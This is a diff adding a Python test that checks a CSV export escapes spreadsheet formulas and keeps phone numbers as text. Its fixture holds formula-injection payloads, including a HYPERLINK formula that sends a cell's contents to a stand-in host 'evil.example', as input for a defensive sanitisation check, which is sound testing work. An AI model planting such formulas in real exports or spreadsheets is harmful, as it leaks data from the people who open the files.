@@ -232,3 +232,19 @@ def test_contact_details_never_reach_the_logs(db_url, caplog):
 ])
 def test_redaction_leaves_ordinary_log_lines_alone(text):
     assert privacy.redact(text) == text
+
+
+def test_export_csv_cells_never_run_as_formulas_and_phones_stay_text(db_url, tmp_path):
+    save_screen("csv-attacker", a_summary())
+    save_contact_request("csv-attacker", '=HYPERLINK("http://evil.example/?"&A1,"click")', None,
+                         "07700 900123", "@SUM(1+1) or -1")
+    out = tmp_path / "screens.csv"
+    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
+    with out.open(newline="", encoding="utf-8") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["contact_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["preferred_times"] == "'@SUM(1+1) or -1"
+    assert row["contact_phone"] == "'07700900123"
+    assert row["triage"] == "gait_analysis"  # ordinary cells untouched
+    for cell in row.values():
+        assert not cell.startswith(cli.FORMULA_STARTS), cell
